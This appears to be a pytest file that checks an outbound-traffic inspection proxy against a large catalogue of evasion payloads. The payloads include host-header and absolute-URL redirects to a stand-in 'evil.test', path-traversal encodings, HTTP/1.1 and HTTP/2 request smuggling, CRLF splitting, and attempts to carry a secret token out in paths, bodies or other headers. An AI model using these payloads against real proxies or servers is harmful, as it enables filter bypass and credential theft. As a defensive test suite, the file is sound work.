"""Attempts to get around inspection: whatever data a connection carries, only requests that the rules allow arrive
outside.
"""

import base64
import json
from collections.abc import Iterator
from typing import Final

import pytest

from tests.egress.test_inspect import REAL
from tests.egress.world import RULE, InspectedWorld, missing

REASON = missing()
pytestmark = [pytest.mark.guest, pytest.mark.skipif(bool(REASON), reason=REASON or "-")]

RULES = (
    RULE
    + '[[allow.requests]]\nmethods = ["GET", "POST", "TRACE"]\npaths = ["/ok/**"]\nmax_body = 1000\n'
    + '[[allow.requests]]\ndeny = true\npaths = ["/ok/secret/**"]\n'
    + '[[allow.secrets]]\nname = "TOKEN"\nfrom = "file:token"\nheader = "authorization"\n'
)
H: Final = b"Host: good.test:9443\r\n"
LEAK: Final = b"GET /LEAK HTTP/1.1\r\nHost: good.test:9443\r\n\r\n"


def get(target: bytes, more: bytes = b"", method: bytes = b"GET") -> bytes:
    """A request."""
    return method + b" " + target + b" HTTP/1.1\r\n" + H + more + b"\r\n"


# The data sent after the TLS handshake, by name.
RAW: Final[dict[str, bytes]] = {
    # other hosts behind the granted one
    "host": b"GET /ok/LEAK HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    "host-port": b"GET /ok/LEAK HTTP/1.1\r\nHost: good.test:444\r\n\r\n",
    "host-default-port": b"GET /ok/LEAK HTTP/1.1\r\nHost: good.test\r\n\r\n",
    "host-twice": b"GET /ok/LEAK HTTP/1.1\r\nHost: good.test:9443\r\nHost: evil.test\r\n\r\n",
    "host-userinfo": b"GET /ok/LEAK HTTP/1.1\r\nHost: good.test:9443@evil.test\r\n\r\n",
    "host-nul": b"GET /ok/LEAK HTTP/1.1\r\nHost: evil.test%00good.test:9443\r\n\r\n",
    "host-folded": b"GET /ok/LEAK HTTP/1.1\r\nHost: good.test:9443\r\n evil.test\r\n\r\n",
    "host-none": b"GET /ok/LEAK HTTP/1.0\r\n\r\n",
    "absolute": get(b"https://evil.test/ok/LEAK"),
    "absolute-http": get(b"http://good.test:9443/ok/LEAK"),
    "absolute-userinfo": get(b"https://good.test:9443@evil.test/ok/LEAK"),
    "connect": b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\nLEAK",
    "connect-self": b"CONNECT good.test:9443 HTTP/1.1\r\nHost: good.test:9443\r\n\r\nLEAK",
    "upgrade-h2c": get(b"/ok/a", b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABk\r\n") + LEAK,
    "upgrade-websocket": get(b"/ok/a", b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: AAAA\r\n") + LEAK,
    "upgrade-tls": get(b"/ok/a", b"Upgrade: TLS/1.2\r\nConnection: Upgrade\r\n") + LEAK,
    "http2-without-alpn": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0",
    "forwarded": get(b"/no/LEAK", b"X-Original-URL: /ok/a\r\nX-Rewrite-URL: /ok/a\r\n"),
    # other paths
    "path": get(b"/LEAK"),
    "path-up": get(b"/ok/../LEAK"),
    "path-up-escaped": get(b"/ok/%2e%2e/LEAK"),
    "path-up-half": get(b"/ok/.%2e/LEAK"),
    "path-up-twice": get(b"/ok/%252e%252e/LEAK"),
    "path-up-slash": get(b"/ok/..%2fLEAK"),
    "path-up-backslash": get(b"/ok/..\\LEAK"),
    "path-up-backslash-escaped": get(b"/ok/..%5cLEAK"),
    "path-up-semicolon": get(b"/ok/..;/LEAK"),
    "path-double": get(b"//ok/LEAK"),
    "path-host": get(b"//evil.test/ok/LEAK"),
    "path-fragment": get(b"/ok/a#/LEAK"),
    "path-query": get(b"?/ok/LEAK"),
    "path-space": b"GET /ok/a /LEAK HTTP/1.1\r\n" + H + b"\r\n",
    "path-tab": b"GET /ok/a\t/LEAK HTTP/1.1\r\n" + H + b"\r\n",
    "path-nul": get(b"/LEAK%00/ok/"),
    "path-case": get(b"/OK/LEAK"),
    "denied": get(b"/ok/secret/LEAK"),
    "denied-escaped": get(b"/ok/%73ecret/LEAK"),
    "denied-escaped-twice": get(b"/ok/%2573ecret/LEAK"),
    "denied-slash": get(b"/ok/secret%2fLEAK"),
    "denied-double": get(b"/ok//secret/LEAK"),
    "denied-dot": get(b"/ok/./secret/LEAK"),
    "denied-semicolon": get(b"/ok/secret;a/LEAK"),
    "denied-backslash": get(b"/ok\\secret\\LEAK"),
    # other methods
    "method": get(b"/ok/LEAK", method=b"DELETE"),
    "method-case": get(b"/ok/LEAK", method=b"get"),
    "method-override": get(b"/LEAK", b"X-HTTP-Method-Override: GET\r\n", b"DELETE"),
    # requests within requests
    "pipelined-path": get(b"/ok/a") + get(b"/LEAK"),
    "pipelined-host": get(b"/ok/a") + b"GET /ok/LEAK HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    "length-and-chunks": get(b"/ok/a", b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", b"POST") + b"0\r\n\r\n" + LEAK,
    "length-twice": get(b"/ok/a", b"Content-Length: 0\r\nContent-Length: 50\r\n", b"POST") + LEAK,
    "length-signed": get(b"/ok/a", b"Content-Length: +50\r\n", b"POST") + LEAK,
    "length-of-get": get(b"/ok/a", b"Content-Length: 0\r\n") + LEAK,
    "chunks-odd": get(b"/ok/a", b"Transfer-Encoding: xchunked\r\n", b"POST") + b"0\r\n\r\n" + LEAK,
    "chunks-tab": get(b"/ok/a", b"Transfer-Encoding:\tchunked\r\nContent-Length: 5\r\n", b"POST") + b"0\r\n\r\n" + LEAK,
    "chunks-then": get(b"/ok/a", b"Transfer-Encoding: chunked\r\n", b"POST") + b"0\r\n\r\n" + LEAK,
    "chunk-trailers": get(b"/ok/a", b"Transfer-Encoding: chunked\r\n", b"POST") + b"0\r\nHost: evil.test\r\nLEAK: 1\r\n\r\n",
    "bare-lf": b"GET /ok/a HTTP/1.1\nHost: good.test:9443\n\n" + LEAK,
    "bare-cr": b"GET /ok/a HTTP/1.1\r\nHost: good.test:9443\r\nA: b\rLEAK: 1\r\n\r\n",
    "space-before-colon": b"GET /ok/a HTTP/1.1\r\nHost: good.test:9443\r\nContent-Length : 50\r\n\r\n" + LEAK,
    "expect": get(b"/ok/a", b"Expect: 100-continue\r\nContent-Length: 2000\r\n", b"POST") + b"LEAK" * 500,
    # more than may be sent
    "body": get(b"/ok/a", b"Content-Length: 2000\r\n", b"POST") + b"LEAK" * 500,
    "body-chunks": get(b"/ok/a", b"Transfer-Encoding: chunked\r\n", b"POST") + b"7d0\r\n" + b"LEAK" * 500 + b"\r\n0\r\n\r\n",
    # the secret, where it should not be, or back
    "secret-other-header": get(b"/ok/a", b"X-A: TOKEN\r\n"),
    "secret-path": get(b"/ok/TOKEN"),
    "secret-query": get(b"/ok/a?TOKEN"),
    "secret-body": get(b"/ok/a", b"Content-Length: 5\r\n", b"POST") + b"TOKEN",
    "secret-back": get(b"/ok/a", b"Authorization: TOKEN\r\n"),
    "secret-back-twice": get(b"/ok/a", b"Authorization: TOKENTOKEN\r\n"),
    "secret-back-trace": get(b"/ok/a", b"Authorization: TOKEN\r\n", b"TRACE"),
    "secret-back-pieces": get(b"/ok/a", b"Authorization: TOKEN\r\nRange: bytes=0-3\r\n"),
    "secret-back-packed": get(b"/ok/a", b"Authorization: TOKEN\r\nAccept-Encoding: gzip\r\n"),
    "secret-hop": get(b"/ok/a", b"Authorization: TOKEN\r\nConnection: accept-encoding, range\r\nRange: bytes=1-2\r\n"),
    "secret-other-host": b"GET /ok/a HTTP/1.1\r\nHost: evil.test\r\nAuthorization: TOKEN\r\n\r\n",
}  # fmt: skip

SCRIPT = r"""
import base64, json, os, socket, ssl, sys
context = ssl.create_default_context()
for line in open(sys.argv[1]):
    name, protocol, server_name, data = json.loads(line)
    data = base64.b64decode(data).replace(b"TOKEN", os.environ["TOKEN"].encode())
    context.set_alpn_protocols([protocol] if protocol else [])
    got = b""
    try:
        sock = socket.create_connection(("good.test", 9443), 150)
        context.check_hostname = server_name == "good.test"
        with context.wrap_socket(sock, server_hostname=server_name) as tls:
            tls.sendall(data)
            tls.settimeout(2)
            while more := tls.recv(65536): got += more
    except OSError as error:
        got += f" ({error})".encode()
    print(name, repr(got), flush=True)
"""


def frames(*streams: list[tuple[str, str]], body: bytes = b"") -> bytes:
    """A client of HTTP/2 that takes no care."""
    import h2.config
    import h2.connection

    config = h2.config.H2Configuration(
        client_side=True, validate_outbound_headers=False, normalize_outbound_headers=False
    )
    conn = h2.connection.H2Connection(config)
    conn.initiate_connection()
    for number, fields in enumerate(streams):
        conn.send_headers(2 * number + 1, fields, end_stream=not body)
        if body:
            conn.send_data(2 * number + 1, body, end_stream=True)
    return conn.data_to_send()


def fields(
    path: str = "/ok/LEAK", authority: str = "good.test:9443", method: str = "GET", scheme: str = "https"
) -> list[tuple[str, str]]:
    """The head of a request."""
    return [(":method", method), (":scheme", scheme), (":authority", authority), (":path", path)]


FRAMES: Final[dict[str, bytes]] = {
    "h2-authority": frames(fields(authority="evil.test")),
    "h2-authority-port": frames(fields(authority="good.test")),
    "h2-authority-userinfo": frames(fields(authority="good.test:9443@evil.test")),
    "h2-host": frames([*fields(), ("host", "evil.test")]),
    "h2-host-alone": frames([each for each in fields() if each[0] != ":authority"] + [("host", "evil.test")]),
    "h2-path": frames(fields("/LEAK")),
    "h2-path-up": frames(fields("/ok/%2e%2e/LEAK")),
    "h2-path-absolute": frames(fields("https://evil.test/ok/LEAK")),
    "h2-path-split": frames(fields("/ok/a HTTP/1.1\r\nHost: evil.test\r\n\r\nGET /LEAK")),
    "h2-denied": frames(fields("/ok/%73ecret/LEAK")),
    "h2-method": frames(fields(method="DELETE")),
    "h2-method-split": frames(fields(method="GET /LEAK HTTP/1.1\r\nX: ")),
    "h2-connect": frames([(":method", "CONNECT"), (":authority", "evil.test:443")]),
    "h2-connect-websocket": frames([*fields(method="CONNECT"), (":protocol", "websocket")]),
    "h2-scheme": frames(fields(scheme="http")),
    "h2-second-stream": frames(fields("/ok/a"), fields("/LEAK"), fields(authority="evil.test")),
    "h2-te": frames([*fields(method="POST"), ("transfer-encoding", "chunked")], body=b"0\r\n\r\n" + LEAK),
    "h2-length": frames([*fields(method="POST"), ("content-length", "0")], body=LEAK),
    "h2-header-split": frames([*fields("/ok/a"), ("x", "a\r\nhost: evil.test")]),
    "h2-body": frames(fields("/ok/a", method="POST"), body=b"LEAK" * 500),
    "h2-secret": frames([*fields("/ok/a"), ("x-other", "TOKEN")]),
    "h2-not": b"LEAK" * 100,
}  # fmt: skip


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[InspectedWorld]:
    made = InspectedWorld(tmp_path_factory.mktemp("egress"))
    (made.folder / "token").write_text(REAL)
    yield made
    made.close()


@pytest.mark.timeout(600)
def test_nothing_gets_around(world: InspectedWorld) -> None:
    attempts = [(name, "http/1.1", "good.test", data) for name, data in RAW.items()]
    attempts += [(name, "h2", "good.test", data) for name, data in FRAMES.items()]
    attempts += [
        ("sni", "http/1.1", "evil.test", get(b"/ok/LEAK")),
        ("sni-below", "http/1.1", "www.good.test", get(b"/ok/LEAK")),
        ("no-alpn", "", "good.test", get(b"/LEAK")),
    ]
    lines = [json.dumps([*each[:3], base64.b64encode(each[3]).decode()]) for each in attempts]
    (world.folder / "attempts").write_text("\n".join(lines) + "\n")
    (world.folder / "script.py").write_text(SCRIPT)
    world.seen()
    outcome = world.run(["python3", "script.py", "attempts"], "--net", world.rules(RULES))
    said = outcome.out.splitlines()
    assert [line.split(" ")[0] for line in said] == [each[0] for each in attempts], outcome
    assert REAL not in outcome.out
    found: list[str] = []
    for version, method, target, headers, body in world.seen():
        host = headers.get(":authority", headers.get("host"))
        if (
            host != "good.test:9443"
            or method not in ("GET", "POST", "TRACE")
            or "LEAK" in f"{target}{headers}{body}"
        ):
            found.append(f"{version} {method} {target} {headers} {body[:100]}")
        path = target.partition("?")[0].lower()
        if not path.startswith("/ok/") or "secret" in path or "%" in path or len(body) > 1000:
            found.append(f"{method} {target}")
        others = {name: value for name, value in headers.items() if name != "authorization"}
        if REAL in f"{target}{others}{body}":
            found.append(f"the secret in {target} {others} {body}")
    assert found == []
    assert outcome.packets <= {
        (6, "93.184.216.34", 9443),
        (17, "93.184.216.53", 53),
        (6, "93.184.216.53", 53),
    }
